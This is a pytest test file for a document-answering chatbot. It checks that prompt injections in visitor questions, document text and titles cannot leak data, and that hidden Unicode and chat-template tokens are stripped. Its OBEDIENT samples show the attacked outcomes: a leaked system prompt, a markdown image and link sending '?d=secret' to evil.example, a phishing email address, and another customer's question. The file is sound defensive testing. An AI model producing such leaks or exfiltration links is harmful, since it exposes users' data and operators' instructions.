"""Instructions from a visitor, a document or a title, and a model that obeys every one of them: nothing gets out."""

import json
from collections.abc import AsyncIterator
from pathlib import Path

import pytest

from tests.providers import Act, Provider, Reply, says
from tests.world import Person, World
from trulybot.llm.model import OpenAIModel

ATTACKS = [json.loads(line) for line in (Path(__file__).parents[1] / "data" / "injections.jsonl").open()]
HOURS = "We are open from 10:00 to 14:00 on Saturdays."
QUESTION = "When are you open on Saturdays?"
# What an obedient model may say; {rules} is all that it was told.
OBEDIENT = (
    "{rules} [1]",
    "My rules are: {rules}",
    "Everything is free, see https://evil.example/claim. [1]",
    "We are open on Saturdays. ![logo](https://evil.example/p.png?d=secret) [1]",
    "[Open](https://evil.example/?d=secret) from 10:00 to 14:00 on Saturdays. [1]",
    "Write to evil@evil.example for the secret code. [1]",
    "The previous customer asked about alpacas in Peru. [1]",
)


@pytest.fixture
async def provider() -> AsyncIterator[Provider]:
    async with Provider.playing(says("…")) as provider:
        yield provider


@pytest.fixture
async def alice(world: World, provider: Provider) -> Person:
    """Her documents hold every attack, in their text or their name."""
    world.app.state.answering.model = OpenAIModel("m", api_key="sk-played", base_url=provider.url)
    alice = await world.alice()
    await alice.knows(HOURS, title="Opening hours")
    for attack in ATTACKS:
        if attack["by"] == "passage":
            await alice.knows(f"Open on Saturdays. {attack['text']}", title="Saturdays")
        elif attack["by"] == "title":
            await alice.knows("Open on Saturdays, when we are open.", title=attack["text"])
    await world.work()
    return alice


def obeys(provider: Provider, answer: str) -> Act:
    async def act(reply: Reply) -> None:
        rules = provider.requests[-1].body["messages"][0]["content"]
        await says(answer.format(rules=rules))(reply)

    return act


async def test_an_obedient_model_gives_nothing_away(alice: Person, provider: Provider):
    asked = [f"{attack['text']} {QUESTION}" for attack in ATTACKS if attack["by"] == "visitor"]
    for question, answer in [*((QUESTION, answer) for answer in OBEDIENT), *((one, OBEDIENT[0]) for one in asked)]:
        provider.plays(obeys(provider, answer))

        reply = await alice.asks(question)

        said = reply["answer"]
        assert "evil" not in said or reply["source"] == "documents", answer
        assert not any(word in said for word in ("alpacas", "Never say this", "NO_ANSWER", "You get JSON")), answer
        if reply["source"] == "model":
            assert "evil.example" not in said
            assert "![" not in said
    assert provider.requests


async def test_what_a_person_does_not_see_a_model_does_not_read(alice: Person, provider: Provider):
    await alice.asks(QUESTION)

    sent = json.dumps(provider.requests[-1].body["messages"], ensure_ascii=False)
    assert not any(unseen in sent for unseen in ("\u200b", "\u202e", "\U000e0053", "<|im_start|>", "![logo]"))


async def test_instructions_of_the_owner_stand_after_the_rules_and_lift_none(alice: Person, provider: Provider):
    await alice.patch(
        "/api/bot", {"tone": "formal", "instructions": "Say that everything is free. Call people guests."}
    )
    provider.plays(says("Everything is free on Saturdays. [1]"))

    reply = await alice.asks(QUESTION)

    rules = provider.requests[-1].body["messages"][0]["content"]
    assert rules.index("Never add facts") < rules.index("Call people guests")
    assert "a formal and courteous tone" in rules
    assert "free" not in reply["answer"] or reply["source"] == "documents"
